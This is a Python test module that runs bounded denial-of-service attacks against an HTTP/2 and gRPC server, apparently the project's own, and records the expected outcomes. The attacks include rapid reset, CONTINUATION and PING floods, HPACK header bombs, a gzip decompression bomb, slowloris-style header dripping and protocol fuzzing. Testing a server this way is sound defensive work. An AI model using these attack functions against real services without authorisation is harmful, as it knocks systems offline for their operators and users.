"""What clients do that mean harm, or are broken: each function attacks once and returns how that ended for it.

Every attack is bounded in number and time. ``size`` is 1 for the usual tier and larger for the slow one.
"""

from __future__ import annotations

import contextlib
import random
import socket
import struct
import time
import zlib
from typing import TYPE_CHECKING

from fuzzer import commit_of
from raw_http2 import (
    ACK,
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    RawClient,
    field,
    frame,
    indexed_request,
    message,
    request,
    settings,
)

from trunkline.model.port_limits import DEFAULTS
from trunkline.rpc.gen import pfs_pb2

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

UNARY = "/pfs_v2.API/InspectRepo"
UPLOAD = "/pfs_v2.API/ModifyFile"
DOWNLOAD = "/pfs_v2.API/GetFile"
#: What the files are called whose content readers do not take.
LARGE = "/large"
CLOSED, ANSWERED, TAKEN, ENDED = "closed", "answered", "taken", "ended"
#: Codes of HTTP/2's errors and gRPC's statuses.
NO_ERROR, REFUSED_STREAM = 0, 7
INVALID_ARGUMENT, RESOURCE_EXHAUSTED, UNIMPLEMENTED = "3", "8", "12"


def _streams() -> Iterator[int]:
    return iter(range(1, 1 << 31, 2))


def rapid_reset(address: str, size: int) -> str:
    """Open streams and reset them at once (CVE-2023-44487)."""
    headers = request(UNARY)
    with RawClient(address) as client:
        client.send_all(
            frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, CANCEL)
            for stream, _ in zip(_streams(), range(5_000 * size), strict=False)
        )
        return _closed(client)


def resets_by_the_server(address: str, size: int) -> str:
    """Make the server reset streams, by errors in them (CVE-2025-8671)."""
    headers = request(UNARY)
    with RawClient(address) as client:
        client.send_all(
            frame(HEADERS, END_HEADERS, stream, headers) + frame(WINDOW_UPDATE, 0, stream, bytes(4))
            for stream, _ in zip(_streams(), range(5_000 * size), strict=False)
        )
        return TAKEN if client.read_until(RST_STREAM) else CLOSED


def continuation_flood(address: str, size: int) -> str:
    """Go on with the headers of one request (CVE-2024-27316)."""
    with RawClient(address) as client:
        client.send(frame(HEADERS, 0, 1, request(UNARY)))
        client.send_all(
            frame(CONTINUATION, 0, 1, field(f"x{number}", "y" * 1000)) for number in range(2_000 * size)
        )
        return _closed(client)


def header_bomb(address: str, size: int) -> str:
    """Name one large header of HPACK's table 16,000 times in each request."""
    large = ("a", "b" * 3900)
    table_entry = b"\xbe"
    with RawClient(address) as client:
        client.send(frame(HEADERS, END_HEADERS, 1, indexed_request(UNARY, large)))
        client.send_all(
            frame(HEADERS, END_HEADERS | END_STREAM, stream, request(UNARY) + table_entry * 16_000)
            for stream, _ in zip(range(3, 1 << 31, 2), range(50 * size), strict=False)
        )
        return _status(client, 3)


def many_headers(address: str, size: int) -> str:
    """Send a request with more headers than there may be."""
    headers = request(UNARY) + b"".join(field(f"h{number}", "v") for number in range(150 * size))
    with RawClient(address) as client:
        client.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, headers))
        return _status(client, 1)


def ping_flood(address: str, size: int) -> str:
    """Send PING frames, and read no answer (CVE-2019-9512)."""
    return _unread(address, frame(PING, 0, 0, b"12345678"), size)


def settings_flood(address: str, size: int) -> str:
    """Send SETTINGS frames, and read no answer (CVE-2019-9515)."""
    return _unread(address, settings(), size)


def _unread(address: str, sent: bytes, size: int) -> str:
    with RawClient(address) as client:
        client.send_all(sent * 2_000 for _ in range(1_000 * size))
        return _closed(client)


def priority_flood(address: str, size: int) -> str:
    """Change the priority of a stream that does not exist (CVE-2019-9513)."""
    with RawClient(address) as client:
        client.send_all(frame(PRIORITY, 0, 1, b"\0\0\0\0\1") * 1_000 for _ in range(100 * size))
        client.send(frame(PING, 0, 0, b"12345678"))
        return TAKEN if client.read_until(PING) else CLOSED


def empty_data(address: str, size: int) -> str:
    """Send frames of an upload that have no bytes (CVE-2019-9518)."""
    with RawClient(address) as client:
        client.send(frame(HEADERS, END_HEADERS, 1, request(UPLOAD)))
        client.send_all(frame(DATA, 0, 1) * 1_000 for _ in range(100 * size))
        client.send(frame(PING, 0, 0, b"12345678"))
        return TAKEN if client.read_until(PING) else CLOSED


def too_many_streams(address: str, _size: int) -> str:
    """Begin more calls than a connection may have."""
    with RawClient(address) as client:
        client.send_all(
            frame(HEADERS, END_HEADERS, stream, request(UPLOAD))
            for stream, _ in zip(_streams(), range(DEFAULTS.streams + 100), strict=False)
        )
        code = client.read_until(RST_STREAM)
        return "refused" if code == struct.pack(">I", REFUSED_STREAM) else str(code)


def endless_request(address: str, _size: int) -> str:
    """Send message after message to a method that takes one."""
    with RawClient(address) as client:
        client.send(frame(HEADERS, END_HEADERS, 1, request(UNARY)))
        client.send_all(frame(DATA, 0, 1, message(b"") * 100) for _ in range(100))
        return _trailers(client, 1)


def upload_to_nothing(address: str, _size: int) -> str:
    """Fill the window of a method that does not exist."""
    with RawClient(address) as client:
        client.send(frame(HEADERS, END_HEADERS, 1, request("/no.Such/Method")))
        client.send_all(frame(DATA, 0, 1, bytes(10_000)) for _ in range(100))
        return _trailers(client, 1)


def beyond_the_window(address: str, size: int) -> str:
    """Send an upload without regard to the window."""
    with RawClient(address) as client:
        client.send(frame(HEADERS, END_HEADERS, 1, request(UPLOAD)))
        client.send_all(frame(DATA, 0, 1, b"\0\1\0\0\0" + bytes(16_000)) for _ in range(500 * size))
        return ENDED if client.read_until(RST_STREAM) else CLOSED


def huge_message(address: str, _size: int) -> str:
    """Announce a message of 4 GiB."""
    with RawClient(address) as client:
        client.send(frame(HEADERS, END_HEADERS, 1, request(UNARY)) + frame(DATA, 0, 1, b"\0\xff\xff\xff\xff"))
        return _trailers(client, 1)


def compressed_bomb(address: str, size: int) -> str:
    """Send messages of 256 KiB that are 256 MiB when they are decompressed, many at once."""
    encoder = zlib.compressobj(9, zlib.DEFLATED, 31)
    body = message(
        b"".join(encoder.compress(bytes(1 << 20)) for _ in range(256)) + encoder.flush(), compressed=True
    )
    headers = request(UNARY, ("grpc-encoding", "gzip"))
    with RawClient(address) as client:
        for stream, _ in zip(_streams(), range(8 * size), strict=False):
            client.send(frame(HEADERS, END_HEADERS, stream, headers))
            client.send_all(
                frame(DATA, 0, stream, body[start : start + 16_000]) for start in range(0, len(body), 16_000)
            )
            client.send(frame(DATA, END_STREAM, stream))
        return _trailers(client, 1)


def random_bytes(address: str, size: int) -> str:
    """Send bytes that mean nothing."""
    rng = random.Random(1)
    for _ in range(200 * size):
        with RawClient(address, rng.randbytes(rng.choice([1, 24, 100, 5000]))):
            pass
    return TAKEN


def random_frames(address: str, size: int) -> str:
    """Begin well, and go on with frames that mean nothing."""
    rng = random.Random(2)
    for _ in range(200 * size):
        with RawClient(address) as client:
            client.send_all(
                frame(
                    rng.randrange(12),
                    rng.randrange(256),
                    rng.choice([0, 1, 2, 3, 2**31 - 1]),
                    rng.randbytes(rng.choice([0, 1, 4, 5, 8, 300])),
                )
                for _ in range(20)
            )
    return TAKEN


def broken_at_every_byte(address: str, size: int) -> str:
    """Break a good call: end it after each byte, and change each byte."""
    call = (
        PREFACE
        + settings((INITIAL_WINDOW_SIZE, 1 << 20))
        + frame(SETTINGS, ACK, 0)
        + frame(HEADERS, END_HEADERS, 1, indexed_request(UNARY))
        + frame(DATA, END_STREAM, 1, message(b"\x0a\x07\x0a\x05probe"))
    )
    for position in range(len(call)):
        with RawClient(address, call[:position]):
            pass
        for flipped in (0xFF, 0x01, 0x80)[:size]:
            changed = bytearray(call)
            changed[position] ^= flipped
            with RawClient(address, bytes(changed)) as client:
                client.socket.settimeout(0.02)
                with contextlib.suppress(TimeoutError):
                    client.read()
    return TAKEN


def vanishing_uploads(address: str, size: int) -> str:
    """Begin uploads and reset the connection (RST of TCP)."""
    first = pfs_pb2.ModifyFileRequest(set_commit=commit_of("probe")).SerializeToString()
    for _ in range(50 * size):
        with RawClient(address) as client:
            client.send(
                frame(HEADERS, END_HEADERS, 1, request(UPLOAD)) + frame(DATA, 0, 1, message(first) + b"\0\0")
            )
            client.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    return TAKEN


def vanishing_files(address: str, size: int) -> str:
    """Put files by plain HTTP, reset the connection or stop within the body, and read files without an end."""
    begin = (
        b"PUT /files/default/probe/hostile/%d HTTP/1.1\r\nhost: localhost\r\ncontent-length: 9000000\r\n\r\n"
    )
    read = b"GET /files/default/probe/master/large HTTP/1.1\r\nhost: localhost\r\n\r\n"
    with contextlib.ExitStack() as stack:
        for number in range(50 * size):
            client = stack.enter_context(RawClient(address, begin % number + bytes(50_000)))
            if number % 2:
                client.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                client.socket.close()
        for _ in range(4):
            stack.enter_context(RawClient(address, read))
        with RawClient(address, read.replace(b"GET", b"HEAD")) as client:
            return TAKEN if client.socket.recv(12) == b"HTTP/1.1 200" else CLOSED


def silent(address: str, size: int) -> str:
    """Connect and say nothing, or nothing further than a part of HTTP/2's preface."""
    with contextlib.ExitStack() as stack:
        clients = [
            stack.enter_context(RawClient(address, PREFACE[:length]))
            for length in range(len(PREFACE) - 1)
            for _ in range(10 * size)
        ]
        end = time.monotonic() + DEFAULTS.handshake + 20
        closed = [client.is_closed_within(max(0.01, end - time.monotonic())) for client in clients]
        return CLOSED if all(closed) else "open"


def pausing_headers(address: str, _size: int) -> str:
    """Begin a request, and pause within its headers: HTTP/1.1 and HTTP/2."""
    beginnings = (
        b"GET / HTTP/1.1\r\nHost: local",
        PREFACE + settings() + frame(HEADERS, 0, 1, request(UNARY)),
    )
    with contextlib.ExitStack() as stack:
        clients = [stack.enter_context(RawClient(address, beginning)) for beginning in beginnings]
        end = time.monotonic() + DEFAULTS.header_pause + 20
        closed = [client.is_closed_within(max(0.01, end - time.monotonic())) for client in clients]
        return CLOSED if all(closed) else "open"


def dripping_headers(address: str, size: int) -> str:
    """Send headers byte by byte on many connections, without a pause long enough to be closed for."""
    beginnings = (
        b"GET / HTTP/1.1\r\nHost: ",
        PREFACE + settings() + frame(HEADERS, 0, 1, request(UNARY))[:20],
    )
    with contextlib.ExitStack() as stack:
        clients = [
            stack.enter_context(RawClient(address, beginning)) for beginning in beginnings * (50 * size)
        ]
        end = time.monotonic() + DEFAULTS.header_time + 60
        while clients and time.monotonic() < end:
            clients = [client for client in clients if client.send(b"a")]
            time.sleep(DEFAULTS.header_pause / 4)
        return "open" if clients else CLOSED


def zero_windows(address: str, size: int) -> str:
    """Ask for a large file again and again, and take nothing of it."""
    wanting = pfs_pb2.GetFileRequest(file=pfs_pb2.File(commit=commit_of("probe"), path=LARGE))
    body = message(wanting.SerializeToString())
    with contextlib.ExitStack() as stack:
        clients = [
            stack.enter_context(RawClient(address, PREFACE + settings((INITIAL_WINDOW_SIZE, 0))))
            for _ in range(50 * size)
        ]
        for client in clients:
            client.send(frame(HEADERS, END_HEADERS, 1, request(DOWNLOAD)) + frame(DATA, END_STREAM, 1, body))
        headers = [client.read_headers(1).get(":status") for client in clients]
        clients[0].is_closed_within(0.2 * size)  # the server reads what it holds for each
        return ANSWERED if set(headers) == {"200"} else str(headers)


def readers_that_take_nothing(address: str, size: int) -> str:
    """Do the same until the server ends calls: it holds more than it likes."""
    wanting = pfs_pb2.GetFileRequest(file=pfs_pb2.File(commit=commit_of("probe"), path=LARGE))
    call = frame(HEADERS, END_HEADERS, 1, request(DOWNLOAD))
    call += frame(DATA, END_STREAM, 1, message(wanting.SerializeToString()))
    with contextlib.ExitStack() as stack:
        clients = [
            stack.enter_context(RawClient(address, PREFACE, settings((INITIAL_WINDOW_SIZE, 0)), call))
            for _ in range(50 * size)
        ]
        clients[0].socket.settimeout(DEFAULTS.answer_stall + 30)
        return ENDED if clients[0].read_until(RST_STREAM) else CLOSED


def windows_of_a_byte(address: str, size: int) -> str:
    """Take a listing byte by byte."""
    with RawClient(address, PREFACE + settings((INITIAL_WINDOW_SIZE, 1))) as client:
        client.send(
            frame(HEADERS, END_HEADERS, 1, request("/pfs_v2.API/ListRepo"))
            + frame(DATA, END_STREAM, 1, message(b""))
        )
        client.send_all(frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\1") for _ in range(2_000 * size))
        return _trailers(client, 1)


def stalled_uploads(address: str, size: int) -> str:
    """Begin uploads on one connection, and pause within a message."""
    with RawClient(address) as client:
        for stream, _ in zip(_streams(), range(500 * size), strict=False):
            client.send(
                frame(HEADERS, END_HEADERS, stream, request(UPLOAD)) + frame(DATA, 0, stream, b"\0\0\0\1\0x")
            )
        client.send(frame(PING, 0, 0, b"12345678"))
        return TAKEN if client.read_until(PING) else CLOSED


@contextlib.contextmanager
def unfinished_messages(address: str, connections: int) -> Iterator[int]:
    """Hold messages of single requests without their ends, as much of each as the server takes; give their bytes."""
    part, total = bytes(16 << 10), 18 << 20
    with contextlib.ExitStack() as stack:
        sent = 0
        for client in [stack.enter_context(RawClient(address)) for _ in range(connections)]:
            client.socket.settimeout(0.05)
            for stream in range(1, 9, 2):
                announced = frame(DATA, 0, stream, struct.pack(">BL", 0, DEFAULTS.message))
                client.send(frame(HEADERS, END_HEADERS, stream, request(UNARY)) + announced)
                window, rest = DEFAULTS.stream_window - 5, total
                with contextlib.suppress(TimeoutError):  # the server takes no more of it
                    while rest > 0:
                        while window < len(part):
                            window += int.from_bytes(client.read_until(WINDOW_UPDATE, stream) or b"", "big")
                        client.send(frame(DATA, 0, stream, part))
                        window, rest, sent = window - len(part), rest - len(part), sent + len(part)
        yield sent


def long_http1_heads(address: str, size: int) -> str:
    """Send headers of HTTP/1.1 without an end, and a request line without one."""
    with RawClient(address, b"GET / HTTP/1.1\r\n") as client:
        client.send_all(b"x%d: %s\r\n" % (number, b"y" * 1000) for number in range(5_000 * size))
        if _closed(client) != CLOSED:
            return "open"
    with RawClient(address, b"GET /") as client:
        client.send_all(b"x" * 1000 for _ in range(5_000 * size))
        return _closed(client)


#: What each attack comes to, by name: those that take a second at most.
QUICK: dict[Callable[[str, int], str], str] = {
    rapid_reset: CLOSED,
    resets_by_the_server: TAKEN,
    continuation_flood: CLOSED,
    header_bomb: "431",
    many_headers: "431",
    ping_flood: CLOSED,
    settings_flood: CLOSED,
    priority_flood: TAKEN,
    empty_data: TAKEN,
    too_many_streams: "refused",
    endless_request: INVALID_ARGUMENT,
    upload_to_nothing: UNIMPLEMENTED,
    beyond_the_window: ENDED,
    huge_message: RESOURCE_EXHAUSTED,
    compressed_bomb: RESOURCE_EXHAUSTED,
    random_bytes: TAKEN,
    random_frames: TAKEN,
    broken_at_every_byte: TAKEN,
    vanishing_uploads: TAKEN,
    vanishing_files: TAKEN,
    zero_windows: ANSWERED,
    windows_of_a_byte: "0",
    stalled_uploads: TAKEN,
    long_http1_heads: CLOSED,
}
#: Those that wait for a time limit of the server.
WAITING: dict[Callable[[str, int], str], str] = {
    silent: CLOSED,
    dripping_headers: CLOSED,
    pausing_headers: CLOSED,
    readers_that_take_nothing: ENDED,
}


#: What the attacks come to on Hypercorn that it withstands. The table in docs/design/port.md has the others.
HYPERCORN: dict[Callable[[str, int], str], str] = {
    resets_by_the_server: CLOSED,
    continuation_flood: CLOSED,
    priority_flood: TAKEN,
    empty_data: TAKEN,
    upload_to_nothing: CLOSED,
    beyond_the_window: CLOSED,
    compressed_bomb: CLOSED,
    random_bytes: TAKEN,
    random_frames: TAKEN,
    vanishing_uploads: TAKEN,
    vanishing_files: TAKEN,
    windows_of_a_byte: "0",
    stalled_uploads: TAKEN,
    long_http1_heads: CLOSED,
}


def _closed(client: RawClient) -> str:
    return CLOSED if client.is_closed_within(30) else "open"


def _status(client: RawClient, stream: int) -> str:
    """Return the status of HTTP with which a request is answered."""
    return client.read_headers(stream).get(":status", CLOSED)


def _trailers(client: RawClient, stream: int) -> str:
    """Return the status of gRPC with which a call ends."""
    while headers := client.read_headers(stream):
        if "grpc-status" in headers:
            return headers["grpc-status"]
    return CLOSED
